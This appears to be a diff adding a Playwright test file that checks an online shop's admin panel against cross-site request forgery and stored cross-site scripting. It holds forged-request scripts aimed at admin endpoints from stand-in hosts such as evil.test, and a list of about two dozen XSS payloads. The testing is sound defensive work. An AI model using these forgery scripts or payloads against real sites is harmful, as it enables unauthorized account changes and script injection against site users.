@@ -1,0 +1,376 @@
+import { createServer, request as httpRequest } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { type Browser, type BrowserContext, chromium, type Page } from '@playwright/test';
+import { findBrowser } from '#test/browser.ts';
+import { freePort } from '#test/postgres.ts';
+import type { Program } from '#test/program.ts';
+import { startSmtp, type TestSmtp } from '#test/smtp.ts';
+import {
+  buy,
+  expect,
+  FAILED_ANSWERS,
+  inquire,
+  openDashboard,
+  PASSWORD,
+  startAdminShop,
+  test,
+} from './admin-fixtures.ts';
+
+/* ---- S8: writes that other sites make in the admin's browser ---- */
+
+const HOST = 'www.shop.test';
+/** A stranger's site, and one beside ours under the same domain, to which SameSite cookies are sent. */
+const STRANGERS = ['evil.test', 'evil.shop.test'];
+
+/** What a page of another site can make a browser send. Each runs there, given the shop's origin and ids of its things. */
+const FORGED: Record<string, string> = {
+  'a form': `post('urlencoded', '/api/admin/store-locations', { name: 'x', address: 'x', storeType: 'x', latitude: '1', longitude: '1' })`,
+  'a form as text/plain that reads as JSON': `post('plain', '/api/admin/store-locations', { '{"name":"x","address":"x","storeType":"x","latitude":1,"longitude":1,"a":"': '"}' })`,
+  'a form with files': `post('multipart', '/api/admin/email-templates', { templateKey: 'order_confirmation', language: 'en', subject: 'x', body: 'x' })`,
+  'an empty form that logs out': `post('urlencoded', '/api/admin/logout', {})`,
+  'fetch without CORS, JSON as text': `ask('/api/admin/store-locations', { method: 'POST', mode: 'no-cors', body: STORE })`,
+  'fetch without CORS and without a body': `ask('/api/admin/logout', { method: 'POST', mode: 'no-cors' })`,
+  'fetch without CORS, a mail again': `ask('/api/admin/emails/' + ids.email + '/send', { method: 'POST', mode: 'no-cors' })`,
+  'fetch with CORS and JSON': `ask('/api/admin/store-locations', { method: 'POST', headers: { 'content-type': 'application/json' }, body: STORE })`,
+  'PATCH with CORS': `ask('/api/admin/orders/' + ids.order + '/status', { method: 'PATCH', headers: { 'content-type': 'application/json' }, body: '{"status":"cancelled"}' })`,
+  'DELETE with CORS': `ask('/api/admin/wholesalers/' + ids.inquiry, { method: 'DELETE' })`,
+  'a beacon': `navigator.sendBeacon(shop + '/api/admin/store-locations', STORE)`,
+  'a picture that asks for a change': `new Promise((done) => { const image = new Image(); image.onerror = image.onload = done; image.src = shop + '/api/admin/logout?_method=POST'; })`,
+};
+
+/** Runs in the forging page before each of them. */
+const FORGER = `
+  const STORE = JSON.stringify({ name: 'x', address: 'x', storeType: 'x', latitude: 1, longitude: 1 });
+  const ask = (path, options) => fetch(shop + path, { credentials: 'include', ...options });
+  const post = (type, path, fields) => new Promise((done) => {
+    const frame = document.createElement('iframe');
+    frame.name = 'target';
+    document.body.append(frame);
+    const form = document.createElement('form');
+    const types = { urlencoded: 'application/x-www-form-urlencoded', plain: 'text/plain', multipart: 'multipart/form-data' };
+    Object.assign(form, { method: 'POST', action: shop + path, target: 'target', enctype: types[type] });
+    for (const [name, value] of Object.entries(fields)) {
+      const input = document.createElement('input');
+      Object.assign(input, { name, value });
+      form.append(input);
+    }
+    document.body.append(form);
+    frame.addEventListener('load', () => setTimeout(done, 50));
+    form.submit();
+    // A frame that is refused tells nobody.
+    setTimeout(done, 1500);
+  });
+`;
+
+type Ids = { order: string; inquiry: string; email: string };
+
+/** Sites of others, empty pages on any name. */
+async function startStrangers(): Promise<{ port: number; close(): void }> {
+  const server = createServer((_request, response) =>
+    response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>x</title><body></body>'),
+  );
+  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
+  return { port: (server.address() as AddressInfo).port, close: () => server.close() };
+}
+
+/** In front of the shop, without the two headers that tell where a request comes from: what would be without the check. */
+async function startBlindProxy(program: Program): Promise<{ port: number; close(): void }> {
+  const target = new URL(program.url);
+  const server = createServer((request, response) => {
+    const { origin: _, 'sec-fetch-site': __, ...headers } = request.headers;
+    headers.host = HOST;
+    const onward = httpRequest({
+      port: target.port,
+      host: target.hostname,
+      method: request.method,
+      path: request.url,
+      headers,
+    });
+    onward.on('response', (answer) => {
+      response.writeHead(answer.statusCode ?? 502, answer.headers);
+      answer.pipe(response);
+    });
+    onward.on('error', () => response.destroy());
+    request.pipe(onward);
+  });
+  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
+  return { port: (server.address() as AddressInfo).port, close: () => server.close() };
+}
+
+test.describe('S8', () => {
+  // One program and one browser for all of them.
+  test.describe.configure({ mode: 'serial' });
+  let smtp: TestSmtp;
+  let program: Program;
+  let browser: Browser;
+  let context: BrowserContext;
+  let strangers: Awaited<ReturnType<typeof startStrangers>>;
+  let origin: string;
+
+  test.beforeAll(async () => {
+    const port = await freePort();
+    origin = `http://${HOST}:${port}`;
+    smtp = await startSmtp();
+    const mail = { SMTP_URL: smtp.url, MAIL_FROM: 'hola@shop.example', OWNER_EMAIL: 'owner@shop.example' };
+    program = await startAdminShop({ PUBLIC_URL: origin, ...mail }, undefined, port);
+    await buy(program.url);
+    await inquire(program.url);
+    // A mail that is sent and then put in line again shows it; one that is still in line would not.
+    await expect.poll(() => smtp.received.length).toBe(4);
+    strangers = await startStrangers();
+    // Names of a real domain with its siblings, all of them on this machine.
+    browser = await chromium.launch({
+      executablePath: findBrowser(),
+      args: ['--no-sandbox', '--disable-gpu', '--host-resolver-rules=MAP *.test 127.0.0.1'],
+    });
+  });
+  test.afterAll(async () => {
+    await browser.close();
+    strangers.close();
+    await program.stop();
+    await smtp.close();
+  });
+  test.beforeEach(async () => {
+    context = await browser.newContext();
+  });
+  test.afterEach(() => context.close());
+
+  /** Logs in by the page itself and tells what there is. */
+  async function openAsAdmin(at = origin): Promise<{ page: Page; ids: Ids }> {
+    const page = await context.newPage();
+    await page.goto(`${at}/admin/login`);
+    const call = (method: string, path: string, body?: object) => callFrom(page, method, path, body);
+    expect(await call('POST', '/api/admin/login', { password: PASSWORD })).toMatchObject({ status: 200 });
+    const first = async (path: string) => ((await call('GET', path)).body as { id: string }[])[0]?.id ?? '';
+    return {
+      page,
+      ids: {
+        order: await first('/api/admin/orders?limit=1'),
+        inquiry: await first('/api/admin/wholesalers?limit=1'),
+        email: await first('/api/admin/emails?limit=1'),
+      },
+    };
+  }
+  /** All that an admin may change, as text; nobody who is logged out sees it. */
+  function stateOf(page: Page): Promise<string> {
+    const lists = ['check', 'orders', 'wholesalers', 'store-locations', 'email-templates', 'emails?limit=200'];
+    return page.evaluate(async (paths) => {
+      const answers = paths.map(async (path) => (await fetch(`/api/admin/${path}`)).text());
+      return JSON.stringify(await Promise.all(answers));
+    }, lists);
+  }
+  async function openStranger(name: string): Promise<Page> {
+    const page = await context.newPage();
+    await page.goto(`http://${name}:${strangers.port}/`);
+    return page;
+  }
+  async function forge(page: Page, script: string, ids: Ids, shop = origin): Promise<void> {
+    await page.evaluate(
+      `(async () => { const shop = ${JSON.stringify(shop)}; const ids = ${JSON.stringify(ids)}; ${FORGER}; await Promise.resolve(${script}).catch(() => {}); })()`,
+    );
+  }
+
+  test(`S8: ${Object.keys(FORGED).length} forged requests from a stranger, a sibling and a page without origin change nothing`, async () => {
+    test.setTimeout(180_000);
+    const { page, ids } = await openAsAdmin();
+    const before = await stateOf(page);
+    const changed: string[] = [];
+    for (const stranger of STRANGERS) {
+      const foreign = await openStranger(stranger);
+      for (const [what, script] of Object.entries(FORGED)) {
+        await forge(foreign, script, ids);
+        if ((await stateOf(page)) !== before) changed.push(`${what} from ${stranger}`);
+      }
+    }
+    // A frame in a sandbox has no origin at all.
+    const nowhere = await openStranger('evil.shop.test');
+    for (const [what, script] of Object.entries(FORGED)) {
+      const code = `const shop = ${JSON.stringify(origin)}; const ids = ${JSON.stringify(ids)}; ${FORGER}; Promise.resolve(${script}).catch(() => {}).then(() => parent.postMessage('done', '*'));`;
+      await nowhere.evaluate(
+        (source) =>
+          new Promise<void>((done) => {
+            const frame = document.createElement('iframe');
+            frame.setAttribute('sandbox', 'allow-scripts allow-forms');
+            frame.srcdoc = `<body><script>${source.replaceAll('</', '<\\/')}</script></body>`;
+            addEventListener('message', () => done(), { once: true });
+            document.body.append(frame);
+            setTimeout(done, 3000);
+          }),
+        code,
+      );
+      if ((await stateOf(page)) !== before) changed.push(`${what} from nowhere`);
+    }
+    expect(changed).toEqual([]);
+  });
+
+  test('S8 control: the same requests from our own pages change something', async () => {
+    const { page, ids } = await openAsAdmin();
+    const own = await context.newPage();
+    await own.goto(`${origin}/contact`);
+    const before = await stateOf(page);
+    await forge(own, FORGED['fetch with CORS and JSON'] ?? '', ids);
+    const added = await stateOf(page);
+    expect(added).not.toBe(before);
+    await forge(own, FORGED['PATCH with CORS'] ?? '', ids);
+    const cancelled = await stateOf(page);
+    expect(cancelled).not.toBe(added);
+    await forge(own, FORGED['fetch without CORS, a mail again'] ?? '', ids);
+    const again = await stateOf(page);
+    expect(again).not.toBe(cancelled);
+    await forge(own, FORGED['fetch without CORS and without a body'] ?? '', ids);
+    expect(await callFrom(page, 'GET', '/api/admin/check')).toMatchObject({ body: { isAdmin: false } });
+  });
+
+  test('S8 control: where the shop cannot see whence a request comes, a sibling logs the admin out', async () => {
+    const proxy = await startBlindProxy(program);
+    const blind = `http://${HOST}:${proxy.port}`;
+    const { page, ids } = await openAsAdmin(blind);
+    expect(await callFrom(page, 'GET', '/api/admin/check')).toMatchObject({ body: { isAdmin: true } });
+    const script = FORGED['fetch without CORS and without a body'] ?? '';
+    // Not from a stranger: to that site the browser gives no cookie.
+    await forge(await openStranger('evil.test'), script, ids, blind);
+    expect(await callFrom(page, 'GET', '/api/admin/check')).toMatchObject({ body: { isAdmin: true } });
+    await forge(await openStranger('evil.shop.test'), script, ids, blind);
+    expect(await callFrom(page, 'GET', '/api/admin/check')).toMatchObject({ body: { isAdmin: false } });
+    proxy.close();
+  });
+});
+
+/** A call that a page of ours makes. */
+function callFrom(page: Page, method: string, path: string, body?: object): Promise<{ status: number; body: unknown }> {
+  return page.evaluate(
+    async (call) => {
+      const answer = await fetch(call.path, {
+        method: call.method,
+        ...(call.body ? { headers: { 'content-type': 'application/json' }, body: JSON.stringify(call.body) } : {}),
+      });
+      return { status: answer.status, body: await answer.json().catch(() => null) };
+    },
+    { method, path, body },
+  );
+}
+
+/* ---- E2: markup in what people type, on the pages that show it ---- */
+
+const RUN = 'window.wasHit=1';
+const PAYLOADS = [
+  `<script>${RUN}</script>`,
+  `<img src=x onerror=${RUN}>`,
+  `<svg onload=${RUN}>`,
+  `"><img src=x onerror=${RUN}>`,
+  `'><svg/onload=${RUN}>`,
+  `</td></table><script>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `</textarea><img src=x onerror=${RUN}>`,
+  `</title><svg onload=${RUN}>`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
+  `<details open ontoggle=${RUN}>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<a href="javascript:${RUN}">x</a>`,
+  `javascript:${RUN}`,
+  `[x](javascript:${RUN})`,
+  `<math href="javascript:${RUN}">x`,
+  `<style>@import 'x';</style>`,
+  `<base href="//evil.test/">`,
+  `<meta http-equiv=refresh content=0>`,
+  `<form action=//evil.test><button>x`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `\\u003cscript\\u003e${RUN}`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\${${RUN}}`,
+  `<object data="javascript:${RUN}">`,
+];
+
+/** Says so in the console, which fails a test here, when the policy has to stop something. */
+async function watchHits(page: Page): Promise<() => Promise<string[]>> {
+  const hits: string[] = [];
+  page.on('dialog', (dialog) => {
+    hits.push(`dialog on ${page.url()}`);
+    void dialog.dismiss();
+  });
+  page.on('console', (message) => {
+    if (/Content.Security.Policy|Refused to/i.test(message.text())) hits.push(message.text());
+  });
+  return async () => {
+    const isHit = await page.evaluate(
+      () =>
+        'wasHit' in window ||
+        document.querySelector(
+          'base, meta[http-equiv=refresh], a[href^="javascript:"], object, math, td script, dd script, li script',
+        ) !== null,
+    );
+    return isHit ? [...hits, `ran or stands on ${page.url()}`] : hits;
+  };
+}
+
+test.describe('E2', () => {
+  test.use({ allowConsole: FAILED_ANSWERS });
+
+  test(`E2: ${PAYLOADS.length} payloads in the texts of orders, inquiries, stores and mails stay text wherever they are shown`, async ({
+    page,
+    shop,
+  }) => {
+    test.setTimeout(240_000);
+    const hits = await watchHits(page);
+    const at = (i: number) => PAYLOADS[i % PAYLOADS.length]?.slice(0, 80) ?? '';
+    const pages: string[] = [];
+    for (let i = 0; i < PAYLOADS.length; i += 4) {
+      const address = { fullName: at(i), addressLine1: at(i + 1), addressLine2: at(i + 2), city: at(i + 3) };
+      pages.push((await buy(shop.url, { address })).statusUrl);
+      const message = PAYLOADS.join('\n');
+      await inquire(shop.url, { businessName: at(i), contactName: at(i + 1), location: at(i + 2), message });
+    }
+    await openDashboard(page);
+    for (const payload of PAYLOADS) {
+      const store = { name: payload, address: payload, storeType: payload.slice(0, 60), latitude: 25, longitude: -80 };
+      expect((await callFrom(page, 'POST', '/api/admin/store-locations', store)).status).toBe(201);
+    }
+    const idsOf = async (path: string) => {
+      const { body } = await callFrom(page, 'GET', `${path}?limit=${pages.length}`);
+      return (body as { id: string }[]).map(({ id }) => id);
+    };
+    const [orders, inquiries] = [await idsOf('/api/admin/orders'), await idsOf('/api/admin/wholesalers')];
+    for (const [i, id] of orders.entries()) {
+      const tracking = { trackingNumber: at(i).slice(0, 64), carrier: 'UPS' };
+      expect((await callFrom(page, 'PATCH', `/api/admin/orders/${id}/tracking`, tracking)).status).toBe(200);
+    }
+    for (const id of inquiries) {
+      const notes = { notes: PAYLOADS.join('\n') };
+      expect((await callFrom(page, 'PATCH', `/api/admin/wholesalers/${id}/notes`, notes)).status).toBe(200);
+    }
+    const [mail] = await idsOf('/api/admin/emails');
+
+    const places = [
+      'tab=orders',
+      'tab=wholesalers',
+      'tab=stores',
+      'tab=emails&view=outbox',
+      `tab=emails&view=outbox&open=${mail}`,
+      ...orders.map((id) => `tab=orders&open=${id}`),
+      ...inquiries.map((id) => `tab=wholesalers&open=${id}`),
+    ];
+    for (const place of places) {
+      await page.goto(`/admin/dashboard?${place}`);
+      await expect(page.getByRole('tablist').first()).toBeVisible();
+      if (place.includes('open=')) await expect(page.getByRole('dialog')).toContainText('<');
+      else await page.waitForLoadState('networkidle');
+      expect(await hits()).toEqual([]);
+    }
+    for (const path of [...pages, '/wholesale']) {
+      await page.goto(path);
+      await page.waitForLoadState('networkidle');
+      expect(await hits()).toEqual([]);
+    }
+  });
+
+  test('E2 control: a page that writes the same payloads as markup is caught', async ({ page }) => {
+    const hits = await watchHits(page);
+    await page.goto('about:blank');
+    // One of them would load the page anew.
+    const lasting = PAYLOADS.filter((payload) => !payload.includes('refresh'));
+    await page.evaluate((payloads) => {
+      for (const payload of payloads) document.body.insertAdjacentHTML('beforeend', payload);
+    }, lasting);
+    await expect.poll(async () => (await hits()).length).toBeGreaterThan(0);
+  });
+});
